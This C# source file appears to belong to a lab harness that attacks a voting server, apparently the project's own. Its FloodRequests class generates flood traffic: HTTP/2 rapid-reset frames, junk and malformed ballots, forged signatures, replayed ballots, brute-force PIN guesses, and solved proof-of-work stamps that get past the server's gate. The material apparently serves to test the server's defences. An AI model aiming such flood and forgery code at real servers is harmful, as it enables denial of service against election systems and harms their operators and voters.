using System.Security.Cryptography;
using System.Text;
using Hustings.Cryptography;
using Hustings.Lab.Attacks.Voters;
using Hustings.Lab.Attacks.Wire;

namespace Hustings.Lab.Attacks.Flood;

/// <summary>Makes the requests of one attacking connection after another. Not thread-safe: each worker has its own.</summary>
/// <param name="gate">What gate.json says now; null if the server has none.</param>
public sealed class FloodRequests(FloodPlan plan, FloodMaterial? material, Func<GateNow?> gate, Random chance)
{
    private const int Head = 194;
    private const int PinOffset = 81;
    private const int PinDigits = 112;
    private const int JunkBytes = 700;
    private const int Varied = 12;
    private readonly FloodKind[] kinds = [plan.Kind, .. plan.Also ?? []];
    private int turn;
    private int request;
    private byte[]? replayed;

    private FloodMaterial Material => material ?? throw new InvalidDataException($"{plan.Kind} needs material.");

    /// <summary>The next request, as it goes over the wire.</summary>
    public byte[] Next(CancellationToken cancellation) =>
        kinds[request++ % kinds.Length] switch
        {
            FloodKind.Page => RequestText.Get(plan.Page ?? "/"),
            FloodKind.Http2 => Http2Frames.RapidReset(),
            var kind => RequestText.Post(plan.Target.Path, Body(kind, cancellation)),
        };

    /// <summary>A request's body.</summary>
    public byte[] Body(FloodKind kind, CancellationToken cancellation) =>
        kind switch
        {
            FloodKind.RandomBody => Junk(),
            FloodKind.JunkBallot => [.. HeadBytes(), .. Junk()],
            FloodKind.UnknownCredential => Vary(Material.Unknown),
            FloodKind.BadSignature => Vary(Material.Known),
            FloodKind.WorkedBadSignature => Worked(Vary(Material.Known), cancellation),
            FloodKind.ReplayedWork => replayed ??= Worked(Vary(Material.Known), cancellation),
            FloodKind.ReplayedBallot or FloodKind.ChangedBallot => Material.Valid[turn++ % Material.Valid.Count],
            FloodKind.GuessedPin => Guess(Material.Valid[0]),
            _ => throw new InvalidDataException($"{kind} sends no requests."),
        };

    private byte[] Junk()
    {
        byte[] junk = new byte[JunkBytes];
        chance.NextBytes(junk);
        return junk;
    }

    private byte[] HeadBytes()
    {
        byte[] pin = new byte[PinDigits / 2];
        chance.NextBytes(pin);
        return Encoding.ASCII.GetBytes($"hustings-cast/1 {new string('0', 64)} {Convert.ToHexStringLower(pin)}\n");
    }

    // Other last digits of the signature's response: another ballot each time, well-formed, of the same code, signed by nobody.
    private byte[] Vary(byte[] request)
    {
        byte[] varied = [.. request];
        int end = varied.AsSpan().LastIndexOfAnyInRange((byte)'0', (byte)'9') + 1;
        for (int place = end - Varied; place < end; place++)
        {
            varied[place] = (byte)('0' + chance.Next(10));
        }

        return varied;
    }

    private byte[] Worked(byte[] request, CancellationToken cancellation)
    {
        if (gate() is not { } now)
        {
            return request;
        }

        int bits = plan.Bits > 0 ? plan.Bits : Math.Max(now.Bits, now.HotBits);
        string hash = Convert.ToHexStringLower(SHA256.HashData(request.AsSpan(Head)));
        return bits > 0 ? Work.Put(request, Work.Solve(now, hash, bits, cancellation)) : request;
    }

    private byte[] Guess(byte[] request)
    {
        byte[] pin = SealedBox25519.Seal(
            Material.IntakeKey,
            Encoding.ASCII.GetBytes($"hustings/1 pin|{Material.Uuid}"),
            SHA256.HashData(request.AsSpan(Head)),
            Encoding.ASCII.GetBytes($"{chance.Next(100_000_000):D8}"),
            SodiumRandom.Instance
        );
        byte[] guess = [.. request];
        Encoding.ASCII.GetBytes(Convert.ToHexStringLower(pin), guess.AsSpan(PinOffset, PinDigits));
        return guess;
    }
}
